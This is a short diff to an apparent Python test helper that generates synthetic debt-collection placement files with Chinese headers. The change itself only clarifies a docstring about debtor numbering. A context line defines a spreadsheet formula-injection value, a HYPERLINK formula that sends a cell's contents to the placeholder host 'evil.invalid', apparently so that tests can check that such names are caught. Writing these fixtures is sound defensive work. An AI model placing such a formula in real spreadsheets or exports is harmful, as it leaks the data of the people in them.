@@ -15,7 +15,8 @@ FORMULA_NAME = '=HYPERLINK("http://evil.invalid/?"&A1)'
 
 
 def placement_text(rows: int, *, first: int = 500, bad: tuple[int, ...] = (), prefix: str = "W") -> str:
-    """A placement file in the creditor's Chinese headers: `rows` good accounts (debtors `first`...),
+    """A placement file in the creditor's Chinese headers: `rows` good accounts (debtors `first`+1...,
+    below 1000: a national ID's sequence has three digits),
     the data rows numbered in `bad` (1-based) with an amount that is not one and a debtor's name that
     would be a formula in a spreadsheet."""
     lines = [HEADER]
